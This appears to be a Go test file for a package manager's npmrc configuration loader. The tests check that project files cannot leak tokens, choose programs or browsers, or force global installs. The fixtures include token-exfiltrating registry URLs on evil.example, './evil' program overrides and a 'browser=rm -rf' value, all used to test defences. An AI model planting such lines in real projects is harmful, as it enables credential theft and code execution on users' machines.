package config

import (
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/ibid-pm/ibid/internal/jsjson"
)

func TestProjectFileCannotSendSecretsInAddresses(t *testing.T) {
	c := load(t, nil, []string{"NPM_TOKEN=s3cret", "TEAM=blue"}, map[string]string{
		"project/package.json": "{}",
		"project/.npmrc": "registry=https://evil.example/${NPM_TOKEN}/\n" +
			"@a:registry=https://evil.example/?t=${NPM_TOKEN?}\n" +
			"@b:registry=https://r.example/${TEAM}/\n" +
			"https-proxy=http://u:${NPM_TOKEN}@evil.example/\n" +
			"//r.example/:_authToken=${NPM_TOKEN}\n",
		"home/.npmrc": "@u:registry=https://r.example/${NPM_TOKEN}/\n",
	})
	for key, want := range map[string]string{
		"registry":    "https://registry.npmjs.org/",
		"@a:registry": "",
		"https-proxy": "",
		"@b:registry": "https://r.example/blue/",
		// The user's own file may do as it likes.
		"@u:registry":             "https://r.example/s3cret/",
		"//r.example/:_authToken": "s3cret",
	} {
		if got := c.String(key); got != want {
			t.Errorf("%s is %q, want %q", key, got, want)
		}
	}
	warned := 0
	for _, w := range c.Warnings() {
		if strings.Contains(w.Text, "s3cret") {
			t.Errorf("%s has the secret in it", w.Text)
		}
		if strings.Contains(w.Text, "${NPM_TOKEN}") {
			warned++
		}
	}
	if warned != 3 {
		t.Errorf("%d warnings: %v", warned, c.Warnings())
	}
}

func TestAFileThatAProjectNamesIsTheProjects(t *testing.T) {
	stranger := "registry=https://evil.example/${NPM_TOKEN}/\n@a:registry=https://evil.example/${NPM_TOKEN}/\n@b:registry=https://r.example/\n"
	for name, files := range map[string]map[string]string{
		"as the user's":                   {"project/.npmrc": "userconfig=rc\n", "project/rc": stranger},
		"as the global one":               {"project/.npmrc": "globalconfig=rc\n", "project/rc": stranger},
		"as the global one, in two steps": {"project/.npmrc": "userconfig=rc\n", "project/rc": "globalconfig=rc2\n", "project/rc2": stranger},
	} {
		t.Run(name, func(t *testing.T) {
			files["project/package.json"] = "{}"
			c := load(t, nil, []string{"NPM_TOKEN=s3cret"}, files)
			for key, want := range map[string]string{"registry": "https://registry.npmjs.org/", "@a:registry": "", "@b:registry": "https://r.example/"} {
				if got := c.String(key); got != want {
					t.Errorf("%s is %q, want %q", key, got, want)
				}
			}
		})
	}
}

func TestAProjectDoesNotChooseWhereTokensAreWritten(t *testing.T) {
	for _, c := range []struct {
		name, project string
		args          []string
		layer         Layer
		written       bool
	}{
		{"the user's own file", "", nil, User, true},
		{"one that the project names", "userconfig=rc\n", nil, User, false},
		{"one that the project names, and the user too", "userconfig=rc\n", []string{"--userconfig=rc"}, User, true},
		{"the global file that the project names", "globalconfig=rc\n", nil, Global, false},
		{"the project's file", "userconfig=rc\n", nil, Project, true},
	} {
		t.Run(c.name, func(t *testing.T) {
			cfg := load(t, c.args, nil, map[string]string{"project/package.json": "{}", "project/.npmrc": c.project, "project/rc": "color=false\n"})
			cfg.Set("tag", NewString("x"), c.layer)
			if err := cfg.Save(c.layer); (err == nil) != c.written {
				t.Fatal(err)
			}
			text, err := os.ReadFile(cfg.Source(c.layer))
			if err != nil {
				t.Fatal(err)
			}
			if strings.Contains(string(text), "tag=x") != c.written {
				t.Errorf("%s has %q", cfg.Source(c.layer), text)
			}
		})
	}
}

func TestCredentialsDoNotPrintTheirSecrets(t *testing.T) {
	const secret = "hunter2hunter2"
	login := Login{Token: secret, Username: "u", Password: secret, Basic: secret}
	cred := Credential{Token: secret, Basic: secret, Key: "//r.example/"}
	for _, format := range []string{"%v", "%+v", "%#v", "%s", "%q"} {
		for _, x := range []any{cred, &cred, login, &login, []Credential{cred}, struct{ C Credential }{cred}} {
			if s := fmt.Sprintf(format, x); strings.Contains(s, secret) {
				t.Errorf("%s of %T: %s", format, x, s)
			}
		}
	}
	if s := cred.LogValue().String(); strings.Contains(s, secret) {
		t.Error(s)
	}
	if s := Redact("https://u:" + secret + "@h.example/x"); s != "https://u:***@h.example/x" {
		t.Error(s)
	}
	if s := RedactWords("ibid --registry=https://u:" + secret + "@h/ x"); strings.Contains(s, secret) {
		t.Error(s)
	}
}

func TestSecretsAreNotExportedToScripts(t *testing.T) {
	c := load(t, []string{"--password=pw", "--_auth=x", "--//r.example/:_authToken=y"}, []string{"npm_config__authToken=z"}, map[string]string{
		"home/.npmrc": "//r.example/:_password=p\n_auth=q\nusername=me\nemail=e\nauthToken=t\n",
	})
	for name, value := range c.ChildEnviron() {
		for _, word := range []string{"auth", "password", "username", "email"} {
			if strings.Contains(strings.ToLower(name), word) {
				t.Errorf("%s=%s is exported", name, value)
			}
		}
	}
}

// A token and a password are written to the user's file, private, and logging
// in again keeps what else is there.
func TestLoginIsSavedInTheUsersFile(t *testing.T) {
	c := load(t, nil, nil, map[string]string{
		"home/.npmrc": "tag=next\n//r.example/npm/:email=e\n//r.example/npm/:username=old\n//r.example/npm/:_password=b2xk\n//r.example/npm/:always-auth=true\n",
	})
	file := filepath.Join(c.Home(), ".npmrc")
	check := func(want string) {
		t.Helper()
		if err := c.Save(User); err != nil {
			t.Fatal(err)
		}
		data, err := os.ReadFile(file)
		if err != nil || string(data) != want {
			t.Errorf("%q, %v, want %q", data, err, want)
		}
		if st, err := os.Stat(file); err != nil || st.Mode().Perm() != 0o600 {
			t.Errorf("mode %v", st.Mode())
		}
	}
	registry := "https://r.example/npm/"
	if l := c.Login(registry); l.Username != "old" || l.Password != "old" || l.Email != "e" {
		t.Errorf("%#v %s", l, l.Email)
	}
	if err := c.SetLogin(registry, Login{Token: "T"}); err != nil {
		t.Fatal(err)
	}
	check("tag=next\n//r.example/npm/:email=e\n//r.example/npm/:_authToken=T\n")
	if err := c.SetLogin(registry, Login{Username: "u", Password: "p"}); err != nil {
		t.Fatal(err)
	}
	check("tag=next\n//r.example/npm/:email=e\n//r.example/npm/:username=u\n//r.example/npm/:_password=\"cA==\"\n")
	if got := c.Auth("https://r.example/npm/x", registry).Authorization(); got != "Basic dTpw" {
		t.Error(got)
	}
	if err := c.SetLogin(registry, Login{Username: "u"}); err == nil {
		t.Error("a login without password is saved")
	}
	c.ClearLogin(registry, User)
	check("tag=next\n")
	c.Delete("tag", User)
	if err := c.Save(User); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(file); err == nil {
		t.Error("a file without settings stays")
	}
}

func TestSavingKeepsWhatAnotherRunHasSaved(t *testing.T) {
	a := load(t, nil, nil, map[string]string{"home/.npmrc": "color=false\ntag=x\n"})
	b, err := Load(a.env)
	if err != nil {
		t.Fatal(err)
	}
	if err := b.Change(User, []Setting{{"//b.example/:_authToken", "B"}, {"tag", ""}}); err != nil {
		t.Fatal(err)
	}
	if err := a.Change(User, []Setting{{"//a.example/:_authToken", "A"}, {"color", "true"}}); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(a.Source(User))
	if err != nil {
		t.Fatal(err)
	}
	if text, want := string(data), "color=true\n//b.example/:_authToken=B\n//a.example/:_authToken=A\n"; text != want {
		t.Errorf("saved\n%swant\n%s", text, want)
	}
}

func TestSavingKeepsASymbolicLink(t *testing.T) {
	c := load(t, nil, nil, map[string]string{"dotfiles/npmrc": "tag=x\n"})
	file := filepath.Join(c.Home(), ".npmrc")
	target := filepath.Join(filepath.Dir(c.Home()), "dotfiles", "npmrc")
	if err := os.Symlink(target, file); err != nil {
		t.Skip(err)
	}
	if err := c.Change(User, []Setting{{"tag", "y"}}); err != nil {
		t.Fatal(err)
	}
	if st, err := os.Lstat(file); err != nil || st.Mode()&os.ModeSymlink == 0 {
		t.Errorf("the link is gone: %v", err)
	}
	if data, _ := os.ReadFile(target); string(data) != "tag=y\n" {
		t.Errorf("%q", data)
	}
}

// npm makes a project's file writable for everybody.
func TestSavingKeepsTheModeOfAFile(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("no modes")
	}
	for _, test := range []struct {
		layer        Layer
		before, want fs.FileMode // 0: no file
	}{
		{Project, 0o640, 0o640},
		{Project, 0, 0o644},
		{Global, 0o644, 0o644},
		{User, 0o644, 0o600},
		{User, 0, 0o600},
	} {
		c := load(t, nil, nil, map[string]string{"project/package.json": "{}"})
		file := c.Source(test.layer)
		if err := os.MkdirAll(filepath.Dir(file), 0o777); err != nil {
			t.Fatal(err)
		}
		if test.before != 0 {
			if err := errors.Join(os.WriteFile(file, []byte("tag=x\n"), 0o666), os.Chmod(file, test.before)); err != nil {
				t.Fatal(err)
			}
		}
		if err := c.Change(test.layer, []Setting{{"tag", "y"}}); err != nil {
			t.Fatal(err)
		}
		st, err := os.Stat(file)
		if err != nil {
			t.Fatal(err)
		}
		// What the umask leaves of 0666 is for nobody else to write, here and elsewhere.
		if got := st.Mode().Perm(); got != test.want && !(test.before == 0 && got&0o022 == 0 && got&^0o644 == 0) {
			t.Errorf("%s: mode %o before, %o after it, want %o", test.layer, test.before, got, test.want)
		}
	}
}

func TestCommandsOwnFlags(t *testing.T) {
	defs := []Definition{
		{Key: "file", Types: []Type{{Kind: TypeString}}, Default: Value{kind: Null}},
		{Key: "repository", Aliases: []string{"repo"}, Types: []Type{{Kind: TypeString}}, Default: Value{kind: Null}},
		{Key: "allow-publish", Types: []Type{{Kind: TypeBoolean}}, Default: NewBool(false), Short: "z"},
	}
	c := load(t, []string{"trust", "github", "pkg", "--file", "a.yml", "--repo=o/r", "-z", "--json"}, nil, nil)
	flags, words, err := c.CommandFlags(defs, 2)
	if err != nil {
		t.Fatal(err)
	}
	if flags["file"].String() != "a.yml" || flags["repository"].String() != "o/r" || !flags["allow-publish"].Truthy() {
		t.Errorf("%v", flags)
	}
	if len(words) != 1 || words[0] != "pkg" || !c.Bool("json") {
		t.Errorf("%q", words)
	}
	for _, w := range c.Warnings() {
		t.Errorf("%+v", w)
	}
	c = load(t, []string{"trust", "github", "--repo=a", "--repository=b"}, nil, nil)
	if _, _, err := c.CommandFlags(defs, 2); err == nil || err.Error() != "Please provide only one of --repository or --repo" {
		t.Error(err)
	}
	c = load(t, []string{"trust", "github", "--bogus"}, nil, nil)
	if _, _, err := c.CommandFlags(defs, 2); err == nil {
		t.Error("--bogus is accepted")
	}
}

func TestFlagsAfterDashesAreWords(t *testing.T) {
	c := load(t, []string{"run", "test", "--silent", "--", "-verbose", "--foo"}, nil, nil)
	after, ok := c.AfterDash()
	if !ok || len(after) != 2 || after[0] != "-verbose" || len(c.Args()) != 4 || !c.Silent() {
		t.Errorf("%q %q", c.Args(), after)
	}
	if err := c.CheckUnknown(); err != nil {
		t.Error(err)
	}
	if _, ok := load(t, []string{"run", "test"}, nil, nil).AfterDash(); ok {
		t.Error("there was no --")
	}
}

func TestPublishConfigYieldsToTheCommandLineOnly(t *testing.T) {
	c := load(t, []string{"publish", "--tag=cli"}, []string{"npm_config_access=restricted"}, nil)
	settings, err := jsjson.Parse([]byte(`{"tag":"pkg","access":"public","registry":"https://r.example/","provenance":true,"foo":1,"@s:registry":"https://s.example/"}`))
	if err != nil {
		t.Fatal(err)
	}
	p := c.WithPublishConfig(settings)
	for key, want := range map[string]string{"tag": "cli", "access": "public", "registry": "https://r.example/", "provenance": "true"} {
		if got := p.String(key); got != want {
			t.Errorf("%s is %s, want %s", key, got, want)
		}
	}
	if got := p.Registry("@s"); got != "https://s.example/" {
		t.Error(got)
	}
	if c.String("access") != "restricted" || c.String("registry") != "https://registry.npmjs.org/" {
		t.Error("the configuration itself has changed")
	}
	if w := c.Warnings(); len(w) != 1 || !strings.Contains(w[0].Text, `"foo"`) {
		t.Errorf("%v", w)
	}
}

// A device that never ends is read up to a limit.
func TestEndlessFileIsNotReadToItsEnd(t *testing.T) {
	if _, err := os.Stat("/dev/zero"); err != nil {
		t.Skip(err)
	}
	c := load(t, nil, nil, map[string]string{"project/package.json": "{}", "project/.npmrc": "userconfig=/dev/zero\n"})
	if w := c.Warnings(); len(w) != 1 || !strings.Contains(w[0].Text, "more than 16 MB") {
		t.Errorf("%v", w)
	}
	if err := c.Change(User, []Setting{{"tag", "x"}}); err == nil {
		t.Error("what was not read is replaced")
	}
}

func TestAProjectNamesNoPrograms(t *testing.T) {
	programs := "git=./evil\neditor=./evil\nshell=./evil\ninit-module=evil.js\n"
	for _, c := range []struct{ name, project, user, git string }{
		{"nothing is said", "", "", "git"},
		{"the user's own", "", programs, "./evil"},
		{"a project's", programs, "", "git"},
		{"a project's over the user's", programs, "git=/usr/local/bin/git\n", "/usr/local/bin/git"},
		{"a project's file of the user", "userconfig=rc\n", "", "git"},
	} {
		t.Run(c.name, func(t *testing.T) {
			cfg := load(t, []string{"install"}, []string{"EDITOR=vi", "SHELL=/bin/zsh"}, map[string]string{
				"project/package.json": "{}", "project/.npmrc": c.project, "project/rc": programs, "home/.npmrc": c.user,
			})
			if got := cfg.String("git"); got != c.git {
				t.Errorf("git is %q, want %q", got, c.git)
			}
			theirs := c.name == "the user's own"
			for _, key := range []string{"editor", "shell", "init-module"} {
				if got := strings.Contains(cfg.String(key), "evil"); got != theirs {
					t.Errorf("%s is %q", key, cfg.String(key))
				}
			}
			warned := 0
			for _, w := range cfg.Warnings() {
				if strings.Contains(w.Text, "a project does not choose") {
					warned++
				}
			}
			if want := strings.Count(c.project, "evil"); !strings.Contains(c.project, "userconfig") && warned != want {
				t.Errorf("%d warnings, want %d", warned, want)
			}
		})
	}
}

func TestAProjectIsNotGlobal(t *testing.T) {
	for _, c := range []struct {
		name, project, user string
		global              bool
		warned              int
	}{
		{"a project's", "global=true\n", "", false, 1},
		{"without a value", "global\n", "", false, 1},
		{"by its location", "location=global\n", "", false, 1},
		{"a project's file of the user", "userconfig=rc\n", "", false, 1},
		{"the user's own", "", "global=true\n", true, 0},
		{"not at all", "global=false\nlocation=project\n", "", false, 0},
	} {
		t.Run(c.name, func(t *testing.T) {
			cfg := load(t, []string{"install"}, nil, map[string]string{
				"project/package.json": "{}", "project/.npmrc": c.project, "project/rc": "global=true\n", "home/.npmrc": c.user,
			})
			if got := cfg.Global(); got != c.global {
				t.Errorf("global is %v", got)
			}
			warned := 0
			for _, w := range cfg.Warnings() {
				if strings.Contains(w.Text, "what is installed globally") {
					warned++
				}
			}
			if warned != c.warned {
				t.Errorf("%d warnings, want %d", warned, c.warned)
			}
		})
	}
}

func TestAProjectNamesNoBrowser(t *testing.T) {
	for _, c := range []struct {
		name, project, user string
		environ             []string
		command             string
		wanted              bool
	}{
		{"nothing is said", "", "", nil, "", true},
		{"a command", "", "browser=firefox --new-tab\n", nil, "firefox --new-tab", true},
		{"a command in the environment", "", "", []string{"npm_config_browser=lynx"}, "lynx", true},
		{"the system's", "", "browser=true\n", nil, "", true},
		{"none", "", "browser=false\n", nil, "", false},
		{"a project's command", "browser=rm -rf\n", "browser=firefox\n", nil, "", true},
		{"a project's file of the user", "userconfig=rc\n", "", nil, "", true},
		{"a project wants none", "browser=false\n", "browser=firefox\n", nil, "", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			cfg := load(t, []string{"docs"}, c.environ, map[string]string{
				"project/package.json": "{}", "project/.npmrc": c.project, "project/rc": "browser=rm -rf\n", "home/.npmrc": c.user,
			})
			cfg.Validate()
			if command, wanted := cfg.Browser(); command != c.command || wanted != c.wanted {
				t.Errorf("%q, %v", command, wanted)
			}
		})
	}
}

// What is published may be a stranger's tarball.
func TestPublishConfigIsTheProjects(t *testing.T) {
	c := load(t, []string{"publish", "--cafile=mine.pem"}, nil, map[string]string{"home/.npmrc": "//registry.npmjs.org/:_authToken=users\ngit=mine\n"})
	settings, err := jsjson.Parse([]byte(`{"proxy": "http://proxy.example/", "strict-ssl": false, "cafile": "its.pem", "git": "./git", "editor": "./git",
		"//r.example/:_authToken": "its"}`))
	if err != nil {
		t.Fatal(err)
	}
	p := c.WithPublishConfig(settings)
	for key, want := range map[string]bool{"proxy": true, "strict-ssl": true, "cafile": false, "registry": false} {
		if got := p.ProjectDecides(key); got != want || c.ProjectDecides(key) {
			t.Errorf("the project decides on %s: %v", key, got)
		}
	}
	for _, program := range []string{"git", "editor"} {
		if p.String(program) != c.String(program) {
			t.Errorf("%s is %s", program, p.String(program))
		}
	}
	if p.Auth("https://registry.npmjs.org/a", "https://registry.npmjs.org/").OfProject || !p.Auth("https://r.example/a", "https://r.example/").OfProject {
		t.Error("whose token is whose?")
	}
	if w := c.Warnings(); len(w) != 2 || !strings.Contains(w[0].Text, "ignoring git from publishConfig") {
		t.Errorf("%v", w)
	}
}
